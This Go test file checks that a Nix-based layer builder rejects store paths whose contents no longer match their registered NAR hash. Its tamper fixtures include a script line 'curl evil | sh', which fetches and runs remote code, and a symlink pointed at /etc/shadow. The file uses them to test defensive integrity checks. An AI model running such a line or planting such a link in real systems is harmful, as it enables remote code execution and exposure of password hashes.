package layer

import (
	"context"
	"errors"
	"io"
	"os"
	"strings"
	"testing"
)

// A store path whose bytes on disk are not those of its registered NAR
// hash fails the build with *TamperedPathError naming the path, both
// hashes and the repair command, and leaves no layer behind: whatever was
// changed (contents at the same size, size, executable bit, a symlink's
// target, an added or removed file), and whichever Source read it.
func TestTamperedStorePathFails(t *testing.T) {
	for _, tc := range []struct {
		name   string
		tamper func(t *testing.T, root, p string)
	}{
		{"same size", func(t *testing.T, root, p string) { rewrite(t, root, p+"/bin/hello", "#!/bin/sh\necho pwned\n", 0o555) }},
		{"longer", func(t *testing.T, root, p string) {
			rewrite(t, root, p+"/bin/hello", "#!/bin/sh\necho hello; curl evil | sh\n", 0o555)
		}},
		{"executable bit", func(t *testing.T, root, p string) { chmod(t, root, p+"/share/doc", 0o555) }},
		{"symlink target", func(t *testing.T, root, p string) {
			os.Remove(host(root, p+"/lib/link"))
			mklink(t, root, p+"/lib/link", "/etc/shadow")
		}},
		{"file added", func(t *testing.T, root, p string) { mkfile(t, root, p+"/lib/zz-extra", "x", 0o444) }},
		{"file removed", func(t *testing.T, root, p string) { os.Remove(host(root, p+"/share/doc")) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			root := t.TempDir()
			good, bad := storePath('a', "good"), storePath('b', "hello-2.12")
			for _, p := range []string{good, bad} {
				mkfile(t, root, p+"/bin/hello", "#!/bin/sh\necho hello\n", 0o555)
				mkfile(t, root, p+"/share/doc", "documentation", 0o444)
				mklink(t, root, p+"/lib/link", "../share/doc")
			}
			spec := registered(t, Spec{Name: "app", Paths: sp(good, bad)}, root)
			want := spec.Paths[1].NarHash
			tc.tamper(t, root, bad)
			got := narHashOf(t, root+bad)
			if got == want {
				t.Fatal("the tampering did not change the NAR hash")
			}
			for name, src := range map[string]Source{"store": DirSource{root}, "NAR": NARSource{Open: dumpOpener(root)}} {
				tmp := t.TempDir()
				b, err := Build(context.Background(), spec, src, Options{TempDir: tmp})
				if err == nil {
					b.Close()
					t.Fatalf("%s: Build of a tampered store path succeeded", name)
				}
				var te *TamperedPathError
				if !errors.As(err, &te) {
					t.Fatalf("%s: error %v is not *TamperedPathError", name, err)
				}
				if te.Path != bad || te.Want != want || te.Got != got {
					t.Errorf("%s: TamperedPathError{%s, want %s, got %s}, want {%s, %s, %s}", name, te.Path, te.Want, te.Got, bad, want, got)
				}
				for _, s := range []string{bad, "nix-store --repair-path " + bad, want, got, `layer "app"`} {
					if !strings.Contains(err.Error(), s) {
						t.Errorf("%s: error %q does not name %q", name, err, s)
					}
				}
				dirEmpty(t, tmp)
			}
		})
	}
}

// A NarHash that is not a SHA-256 in a spelling Nix uses fails the build
// before anything is written (Key refuses it too).
func TestUnreadableNarHashFails(t *testing.T) {
	root, a, _, _ := makeStore(t)
	tmp := t.TempDir()
	b, err := Build(context.Background(), Spec{Paths: []StorePath{{Path: a, NarHash: "md5:5d41402abc4b2a76b9719d911017c592"}}}, DirSource{root}, Options{TempDir: tmp})
	if err == nil {
		b.Close()
		t.Fatal("Build succeeded")
	}
	if !strings.Contains(err.Error(), a) {
		t.Errorf("error %q does not name %s", err, a)
	}
	dirEmpty(t, tmp)
}

func rewrite(t *testing.T, root, p, content string, mode os.FileMode) {
	t.Helper()
	os.Remove(host(root, p))
	mkfile(t, root, p, content, mode)
}

func chmod(t *testing.T, root, p string, mode os.FileMode) {
	t.Helper()
	if err := os.Chmod(host(root, p), mode); err != nil {
		t.Fatal(err)
	}
}

// NARCheck's hash is the NAR hash go-nix's dumper gives the same tree, for
// every shape of store path: a directory (empty, nested, with names that
// sort around "/"), a lone regular file (empty, executable), a lone
// symlink.
func TestNARCheckMatchesDumper(t *testing.T) {
	root := t.TempDir()
	dir := storePath('d', "dir")
	mkfile(t, root, dir+"/a", "a", 0o444)
	mkfile(t, root, dir+"/a.b", "", 0o555)
	mkfile(t, root, dir+"/a-b/c/d", "deep", 0o444)
	mkdir(t, root, dir+"/a0/empty", 0o555)
	mkfile(t, root, dir+"/b/x", "1234567", 0o444)
	mklink(t, root, dir+"/b/y", "../a")
	mkfile(t, root, dir+"/z", strings.Repeat("z", 4097), 0o555)
	file, empty, link := storePath('f', "file"), storePath('e', "empty"), storePath('l', "link")
	mkfile(t, root, file, "#!/bin/sh\n", 0o555)
	mkfile(t, root, empty, "", 0o444)
	mklink(t, root, link, "/nix/store/x")
	emptyDir := storePath('g', "emptydir")
	mkdir(t, root, emptyDir, 0o555)
	buf := make([]byte, 64)
	for _, p := range []string{dir, file, empty, link, emptyDir} {
		want := narHashOf(t, root+p)
		c, err := NewNARCheck(p, want)
		if err != nil {
			t.Fatal(err)
		}
		err = DirSource{root}.Walk(context.Background(), p, func(e *Entry) error {
			r, err := c.Entry(e)
			if r != nil && err == nil {
				_, err = io.CopyBuffer(io.Discard, r, buf)
			}
			return err
		})
		if err == nil {
			err = c.Finish()
		}
		if err != nil {
			t.Errorf("%s: %v", p, err)
		}
	}
}
